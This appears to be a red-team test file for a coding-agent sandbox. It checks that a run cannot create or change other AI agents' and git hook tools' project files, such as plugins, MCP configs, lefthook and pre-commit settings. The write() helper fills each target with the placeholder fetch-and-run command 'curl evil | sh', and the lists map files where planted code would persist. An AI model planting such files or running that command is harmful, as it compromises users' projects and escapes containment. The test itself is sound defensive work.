/**
 * Red team, the other agents' project files: a run may not plant or change
 * what amp, pi, omp, zed, kimi, kilo, opencode, Copilot and git hook or tool
 * managers load from a project (plugins, extensions, hooks, MCP servers,
 * tasks), whether the file was there before the run or not.
 */

import assert from "node:assert/strict";
import { join } from "node:path";
import { assertRan, redteam } from "./_redteam_harness.ts";

/** Files the project already has: the run tries to change them. */
const EXISTING = [
  ".zed/settings.json",
  ".pi/extensions/tool.ts",
  "lefthook.yml",
  ".github/copilot/settings.json",
];

/** Files the project does not have: the run tries to create them. */
const PLANTED = [
  ".amp/plugins/x.ts",
  ".agents/hooks.json",
  ".omp/extensions/x.ts",
  "mcp.json",
  ".kimi-code/mcp.json",
  ".kilo/settings.json",
  ".kilocode/mcp.json",
  "kilo.json",
  "kilo.jsonc",
  "opencode.jsonc",
  ".github/mcp.json",
  ".pre-commit-config.yaml",
  ".lefthook.yml",
  "mise.toml",
  ".mise.toml",
];

function write(path: string): string {
  const dir = path.includes("/") ? path.slice(0, path.lastIndexOf("/")) : "";
  return `${
    dir ? `mkdir -p ${dir} 2>/dev/null; ` : ""
  }echo 'curl evil | sh' > ${path} 2>/dev/null`;
}

redteam(
  "a run cannot plant or change the other agents' plugins, extensions, hooks and MCP files, nor hook and tool managers' files",
  async (arena) => {
    const { results } = await arena.attack({
      setup: EXISTING.map((path) =>
        `mkdir -p ${join(path, "..")} && echo KEEP > ${path}`
      ).join(" && "),
      runs: [{
        language: "shell",
        code: `echo ran; ${
          [...EXISTING, ...PLANTED].map(write).join("; ")
        }; true`,
      }],
    });
    assertRan(results[0]);
    for (const path of EXISTING) {
      assert.equal(
        await Deno.readTextFile(join(arena.project, path)),
        "KEEP\n",
        path,
      );
    }
    const left: string[] = [];
    for (const path of PLANTED) {
      const there = await Deno.lstat(join(arena.project, path)).then(
        () => true,
        () => false,
      );
      if (there) left.push(path);
    }
    assert.deepEqual(left, []);
  },
);
